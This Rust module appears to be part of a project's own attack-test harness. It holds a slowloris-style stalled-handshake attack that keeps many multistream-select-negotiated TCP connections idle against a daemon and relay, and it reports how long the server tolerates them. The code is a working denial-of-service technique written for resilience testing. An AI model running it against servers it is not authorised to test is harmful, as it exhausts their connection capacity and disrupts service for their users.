//! Stalled handshakes (slowloris): TCP connections that name a security protocol in
//! multistream-select (the bulk path's at the daemon, the relay legs' at the relay, libp2p's TLS at
//! either), wait for the listener to agree, and then send nothing. Each slot keeps one such
//! connection open until the attack ends; when the server closes one, the slot notes how long it
//! lived and opens another after a pause (longer after a quick refusal).

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use futures::AsyncReadExt;
use multistream_select::{Version, dialer_select_proto};
use tokio_util::compat::TokioAsyncReadCompatExt;
use tokio_util::sync::CancellationToken;

/// For the TCP connect and the negotiation of one connection.
const SETUP: Duration = Duration::from_secs(10);
/// Before a slot opens another connection after one ended. A connection refused or closed within
/// [`QUICK`] doubles the slot's pause, up to [`MAX_PAUSE`], so that a server that turns the
/// connections away at once (a per-address cap) is not hammered by reconnects.
const PAUSE: Duration = Duration::from_millis(250);
const QUICK: Duration = Duration::from_secs(1);
const MAX_PAUSE: Duration = Duration::from_secs(5);

/// One group of stalled connections.
#[derive(Debug, Clone)]
pub struct Target {
    /// For the report, e.g. `daemon bulk`.
    pub label: String,
    pub addr: SocketAddr,
    /// The security protocol named.
    pub protocol: String,
    /// Connections held at once.
    pub slots: usize,
}

/// What happened to one group.
#[derive(Debug, Default, Clone)]
pub struct Report {
    /// Connections the listener agreed to.
    pub negotiated: u64,
    /// Connections refused or failed before that (by kind of error).
    pub failed: BTreeMap<String, u64>,
    /// Negotiated connections the server closed while they were held, and after how long (s).
    pub closed_after: Vec<f64>,
    /// Negotiated connections still open when the attack ended, and for how long they had been.
    pub open_at_end: u64,
    pub longest_open: f64,
}

impl Report {
    fn merge(&mut self, other: Report) {
        self.negotiated += other.negotiated;
        for (k, v) in other.failed {
            *self.failed.entry(k).or_default() += v;
        }
        self.closed_after.extend(other.closed_after);
        self.open_at_end += other.open_at_end;
        self.longest_open = self.longest_open.max(other.longest_open);
    }

    /// One line of figures.
    pub fn summary(&self) -> String {
        let mut closed = self.closed_after.clone();
        closed.sort_by(f64::total_cmp);
        let median = closed.get(closed.len() / 2).copied().unwrap_or(f64::NAN);
        format!(
            "{} negotiated, {} closed by the server (median after {median:.1} s), {} still open \
             at the end (longest {:.1} s); failures {:?}",
            self.negotiated,
            closed.len(),
            self.open_at_end,
            self.longest_open,
            self.failed
        )
    }
}

/// Holds every target's slots until `stop` fires; returns a report per target label.
pub async fn hold(targets: &[Target], stop: &CancellationToken) -> BTreeMap<String, Report> {
    let slots = targets.iter().flat_map(|t| (0..t.slots).map(move |i| (t, i)));
    let ends = futures::future::join_all(slots.map(|(t, i)| slot(t, i, stop))).await;
    let mut out: BTreeMap<String, Report> = BTreeMap::new();
    for (label, report) in ends {
        out.entry(label).or_default().merge(report);
    }
    out
}

async fn slot(target: &Target, index: usize, stop: &CancellationToken) -> (String, Report) {
    let mut report = Report::default();
    // Spread the first connections over a second rather than opening hundreds at once.
    let stagger = Duration::from_millis((index as u64 * 7) % 1000);
    tokio::select! {
        () = stop.cancelled() => return (target.label.clone(), report),
        () = tokio::time::sleep(stagger) => {}
    }
    let mut pause = PAUSE;
    while !stop.is_cancelled() {
        let began = Instant::now();
        let opened = tokio::select! {
            () = stop.cancelled() => break,
            r = tokio::time::timeout(SETUP, open(target)) => r,
        };
        match opened {
            Ok(Ok(mut conn)) => {
                report.negotiated += 1;
                let since = Instant::now();
                let mut buf = [0u8; 512];
                let closed = loop {
                    tokio::select! {
                        () = stop.cancelled() => break false,
                        r = conn.read(&mut buf) => match r {
                            Ok(n) if n > 0 => continue,
                            _ => break true,
                        },
                    }
                };
                let lived = since.elapsed().as_secs_f64();
                if closed {
                    report.closed_after.push(lived);
                } else {
                    report.open_at_end += 1;
                    report.longest_open = report.longest_open.max(lived);
                }
            }
            Ok(Err(e)) => *report.failed.entry(crate::attacker::class(&e)).or_default() += 1,
            Err(_) => *report.failed.entry("timed out".into()).or_default() += 1,
        }
        pause = if began.elapsed() < QUICK { (pause * 2).min(MAX_PAUSE) } else { PAUSE };
        tokio::select! {
            () = stop.cancelled() => break,
            () = tokio::time::sleep(pause) => {}
        }
    }
    (target.label.clone(), report)
}

/// Connects and negotiates `target.protocol` (the listener must agree).
async fn open(target: &Target) -> Result<impl futures::AsyncRead + Unpin, String> {
    let tcp = tokio::net::TcpStream::connect(target.addr).await.map_err(|e| e.to_string())?;
    let (_, negotiated) =
        dialer_select_proto(tcp.compat(), [target.protocol.as_str()], Version::V1)
            .await
            .map_err(|e| format!("negotiation failed: {e}"))?;
    Ok(negotiated)
}
